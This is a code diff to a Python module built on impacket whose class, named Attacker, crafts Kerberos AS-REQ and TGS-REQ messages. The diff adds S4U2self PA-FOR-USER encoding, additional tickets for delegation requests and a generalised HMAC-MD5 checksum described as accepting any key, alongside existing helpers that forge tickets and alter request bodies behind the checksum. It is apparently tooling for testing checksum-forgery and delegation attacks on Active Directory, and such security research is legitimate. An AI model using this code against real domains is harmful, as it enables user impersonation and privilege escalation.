@@ -11,7 +11,9 @@ import struct
 
 from impacket.krb5 import constants, crypto
 from impacket.krb5.asn1 import (AD_IF_RELEVANT, AP_REQ, AS_REP, AS_REQ, KRB_ERROR, TGS_REP, TGS_REQ, Authenticator,
-                                EncASRepPart, EncTicketPart, EncryptedData, PA_ENC_TS_ENC, seq_set, seq_set_iter)
+                                EncASRepPart, EncTGSRepPart, EncTicketPart, EncryptedData, PA_ENC_TS_ENC, PA_FOR_USER_ENC,
+                                seq_set, seq_set_iter)
+from impacket.krb5.asn1 import Ticket as TicketSequence
 from impacket.krb5.types import KerberosTime, Principal, Ticket
 from pyasn1.codec.der import decoder, encoder
 from pyasn1.type.univ import noValue
@@ -67,7 +69,7 @@ class Attacker:
 
     def body(self, message, server, options=(), kind=TGS_NAME):
         body = seq_set(message, "req-body")
-        body["kdc-options"] = constants.encodeFlags([o.value for o in options])
+        body["kdc-options"] = constants.encodeFlags(options)
         body["realm"] = self.realm
         seq_set(body, "sname", Principal(server, type=kind).components_to_asn1)
         body["till"] = KerberosTime.to_asn1(now() + datetime.timedelta(hours=5))
@@ -82,10 +84,10 @@ class Attacker:
             message["padata"][i]["padata-type"] = kind
             message["padata"][i]["padata-value"] = value
 
-    def as_req(self, user, padata):
+    def as_req(self, user, padata, options=()):
         message = AS_REQ()
         message["pvno"], message["msg-type"] = 5, 10
-        body = self.body(message, f"krbtgt/{self.realm}")
+        body = self.body(message, f"krbtgt/{self.realm}", options)
         seq_set(body, "cname", Principal(user, type=1).components_to_asn1)
         if padata:
             self.add_padata(message, padata)
@@ -104,19 +106,32 @@ class Attacker:
     def password_key(self, user, password):
         return key_of_password(password, self.realm + user)
 
-    def login(self, user, password):
+    def login(self, user, password, options=()):
         key = self.password_key(user, password)
-        reply = self.ask(self.as_req(user, [(2, self.timestamp(key))]))
+        reply = self.ask(self.as_req(user, [(2, self.timestamp(key))], options))
         assert not isinstance(reply, int), reply
-        part = decoder.decode(CIPHER.decrypt(key, 3, reply["enc-part"]["cipher"].asOctets()), asn1Spec=EncASRepPart())[0]
-        return Session(reply["ticket"], crypto.Key(AES256, part["key"]["keyvalue"].asOctets()), user)
+        return self.session(reply, key, 3, EncASRepPart(), user)
 
-    def tgs_req(self, session, server, checksum=None, added=None, client=None, alter=None, options=()):
+    def session(self, reply, key, usage, kind, client):
+        part = decoder.decode(CIPHER.decrypt(key, usage, reply["enc-part"]["cipher"].asOctets()), asn1Spec=kind)[0]
+        return Session(reply["ticket"], crypto.Key(AES256, part["key"]["keyvalue"].asOctets()), client)
+
+    def ticket(self, session, server, **more):
+        """The session at a service, or the number of the refusal."""
+        reply = self.ask(self.tgs_req(session, server, keyed, **more))
+        return reply if isinstance(reply, int) else self.session(reply, session.key, 8, EncTGSRepPart(), session.client)
+
+    def tgs_req(self, session, server, checksum=None, added=None, client=None, alter=None, options=(),
+                padata=(), second=None):
         """checksum(key, body) gives type and bytes; `added` goes into enc-authorization-data; `alter` changes the
-        body behind the checksum's back."""
+        body behind the checksum's back; `second` is the ticket of another session."""
         message = TGS_REQ()
         message["pvno"], message["msg-type"] = 5, 12
         body = self.body(message, server, options)
+        if second:
+            ticket = Ticket()
+            ticket.from_asn1(second.ticket)
+            seq_set_iter(body, "additional-tickets", (ticket.to_asn1(TicketSequence()),))
         if added is not None:
             body["enc-authorization-data"] = noValue
             body["enc-authorization-data"]["etype"] = AES256
@@ -139,7 +154,7 @@ class Attacker:
         ap_req["authenticator"] = noValue
         ap_req["authenticator"]["etype"] = AES256
         ap_req["authenticator"]["cipher"] = CIPHER.encrypt(session.key, 7, encoder.encode(authenticator), None)
-        self.add_padata(message, [(1, encoder.encode(ap_req))])
+        self.add_padata(message, [(1, encoder.encode(ap_req)), *padata])
         return message
 
     def forge(self, session, key, change):
@@ -165,9 +180,24 @@ def unkeyed(kind, digest):
 
 
 def rc4_keyed(key, body):
-    """HMAC-MD5 of Windows, which takes any key."""
+    return -138, hmac_md5(key, 6, body)
+
+
+def hmac_md5(key, usage, data):
+    """KERB_CHECKSUM_HMAC_MD5 of Windows, which takes any key."""
     signing = hmac.new(key.contents, b"signaturekey\0", "md5").digest()
-    return -138, hmac.new(signing, hashlib.md5(struct.pack("<I", 6) + body).digest(), "md5").digest()
+    return hmac.new(signing, hashlib.md5(struct.pack("<I", usage) + data).digest(), "md5").digest()
+
+
+def for_user(user, realm, kind, checksum):
+    """PA-FOR-USER (MS-SFU 2.2.1): checksum(bytes) is that of its kind."""
+    asked = PA_FOR_USER_ENC()
+    seq_set(asked, "userName", Principal(user, type=1).components_to_asn1)
+    asked["userRealm"], asked["auth-package"] = realm, "Kerberos"
+    asked["cksum"] = noValue
+    asked["cksum"]["cksumtype"] = kind
+    asked["cksum"]["checksum"] = checksum(struct.pack("<I", 1) + f"{user}{realm}Kerberos".encode())
+    return 129, encoder.encode(asked)
 
 
 def key_of(keytab, principal):
